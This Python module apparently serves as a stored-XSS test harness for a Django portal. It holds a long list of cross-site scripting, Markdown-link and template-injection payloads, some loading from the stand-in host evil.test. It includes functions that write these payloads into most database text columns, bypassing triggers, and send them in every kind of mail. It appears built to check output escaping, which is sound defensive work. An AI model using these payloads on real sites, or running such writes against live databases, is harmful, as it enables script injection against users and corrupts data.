"""What somebody writes who wants a reader's browser to run it, or to ask another host; and how it gets everywhere.

Run by the portal's own `manage.py shell`, `everywhere()` writes them into each column of the database that holds words,
and `mails()` has them sent in each mail that the portal knows.
"""

import re
from collections.abc import Iterator
from datetime import datetime, timedelta
from itertools import cycle
from typing import Any

_FAR = "//evil.test/x"
_MARKUP = [
    "<script>alert(1)</script>",
    f"<script src={_FAR}></script>",
    "<SCRIPT/x>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    f"<img src={_FAR}.png>",
    f"<img srcset='{_FAR} 1x'>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    f"<iframe src={_FAR}></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    f"<object data={_FAR}></object><embed src={_FAR}>",
    f"<link rel=stylesheet href={_FAR}>",
    f"<style>@import '{_FAR}';</style>",
    f'<p style="background:url({_FAR})">',
    f"<meta http-equiv=refresh content='0;url=http:{_FAR}'>",
    f"<base href={_FAR}>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    f"<video poster={_FAR}></video><audio src={_FAR} autoplay></audio>",
    "<marquee onstart=alert(1)>",
    f"<form action={_FAR}><button>x</button></form>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</bdi></p></main><script>alert(1)</script>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "<\u200bscript>alert(1)</script>",
]
_ATTRIBUTES = [
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    '"><script>alert(1)</script>',
    "'><svg onload=alert(1)>",
    "` onload=alert(1) `",
    "{{constructor.constructor('alert(1)')()}}",
    "{% load static %}{{ request.user }}",
    "&quot;><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    '\\" onload=alert(1)//',
]
_MARKDOWN = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "[a](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    f'[a]({_FAR} "x\\" onclick=alert(1)")',
    '[a](https://x.test/"onmouseover="alert(1))',
    "![a](javascript:alert(1))",
    f"![a](http:{_FAR}.png)",
    f"[![a](http:{_FAR}.png)](http:{_FAR})",
    f'![a]({_FAR} "t" onerror=alert(1))',
    "[a]: javascript:alert(1)\n\n[a]",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "> " * 40 + "<img src=x onerror=alert(1)>",
    "[<img src=x onerror=alert(1)>](/x)",
    "<https://x.test/<script>alert(1)</script>>",
]
PAYLOADS = [*_MARKUP, *_ATTRIBUTES, *_MARKDOWN]

_NO_WORDS = re.compile(
    r"slug|language|zone|state|kind|key|hash|digest|reference|token|mailbox|email|domain|message_id|sha256|channel|"
    r"visibility|code|password|topic|outcome|mail_class|role|action|target|session|type|codename|app_label|model|raw|"
    r"html|capabilities|recipient|act$|choice|what|uid|provider|data"
)


def _columns(model: Any, fields: Any) -> Iterator[Any]:
    for field in model._meta.concrete_fields:
        is_text = isinstance(field, fields.CharField | fields.TextField) and not isinstance(field, fields.SlugField)
        if is_text and not field.choices and not field.unique and not _NO_WORDS.search(field.name):
            yield field


def everywhere() -> str:
    """Write payloads into every column with words: in turn where one line fits, all of them into a text.

    Returns how many values were written.
    """
    from django.apps import apps  # noqa: PLC0415 - only where the portal is set up
    from django.db import connection, models, transaction  # noqa: PLC0415

    from proposals.models import UnitText  # noqa: PLC0415
    from taskforce.core import markdown  # noqa: PLC0415

    turn, written = cycle(PAYLOADS), 0
    whole = "\n\n".join(PAYLOADS)
    with transaction.atomic(), connection.cursor() as cursor:
        # As a restored or stolen database would hold them: past every service and trigger.
        cursor.execute("SET LOCAL session_replication_role = replica")
        for model in apps.get_models():
            columns = list(_columns(model, models))
            for pk in model._default_manager.values_list("pk", flat=True)[:80] if columns else ():
                values = {field.attname: (next(turn) if field.max_length else whole) for field in columns}
                values = {name: text[: _length(columns, name)] for name, text in values.items()}
                if model is UnitText:
                    values["html"] = markdown.render_inline(values["text"])
                model._default_manager.filter(pk=pk).update(**values)
                written += len(values)
    return str(written)


def _length(columns: list[Any], name: str) -> int | None:
    longest: int | None = next(field.max_length for field in columns if field.attname == name)
    return longest


# What of a mail's context no person writes, beside instants and the portal's own addresses.
_NO_WORDS_OF_MAILS = re.compile(r"language$|zone$|^kind$|^topic$")
_WHOLE_OF_MAILS = {"body", "answer"}
# The daily mail is not sent here: it asks for the mailings that it tells of.
_NOT_SENT = {"digest"}
MAILS_OF_A_KIND = 2


def mails() -> str:
    """Send every kind of mail with payloads for words, and by an act of staff one to all followers.

    Returns how many were written by the first.
    """
    from taskforce.core.clock import app_now  # noqa: PLC0415 - only where the portal is set up
    from taskforce.notifications import delivery, expansion, kinds, services  # noqa: PLC0415

    turn, written = cycle(PAYLOADS), 0
    for kind in kinds.all_kinds():
        for number in range(0 if kind.name in _NOT_SENT else MAILS_OF_A_KIND):
            language = ("en", "ar")[number]
            services.enqueue(
                kind.name,
                key=f"payloads:{kind.name}:{number}",
                mailbox=f"reader@{kind.name}.example",
                language=language,
                context=_hostile("", kinds.sample_of(kind, language), turn),
                at=app_now(),
            )
            written += 1
    _move_an_end()
    expansion.expand_due()
    while delivery.deliver_due():
        pass
    return str(written)


def _hostile(name: str, value: Any, turn: Iterator[str]) -> Any:
    """A part of a mail's context with payloads in the place of every word."""
    if isinstance(value, dict):
        return {key: _hostile(key, inner, turn) for key, inner in value.items()}
    if isinstance(value, list):
        return [_hostile(name, inner, turn) for inner in value]
    if not isinstance(value, str) or _NO_WORDS_OF_MAILS.search(name) or value.startswith("http"):
        return value
    try:
        datetime.fromisoformat(value)
    except ValueError:
        return "\n\n".join(PAYLOADS) if name in _WHOLE_OF_MAILS else " ".join((next(turn), next(turn)))
    return value


def _move_an_end() -> None:
    """As somebody of the staff does it, whose name is a payload, and the reason that they give."""
    from taskforce.accounts.models import User  # noqa: PLC0415
    from taskforce.core.clock import app_now  # noqa: PLC0415
    from taskforce.timeline import services  # noqa: PLC0415
    from taskforce.timeline.models import Phase  # noqa: PLC0415

    open_now = Phase.objects.filter(opens_at__lte=app_now(), closes_at__gt=app_now(), cancelled_at=None)
    phase = open_now.order_by("-closes_at")[0]
    services.extend(
        phase.pk,
        closes_on=phase.closes_on + timedelta(days=1),
        reason="\n".join(PAYLOADS)[:400],
        actor=User.objects.get(email="coordinator@demo.example"),
    )
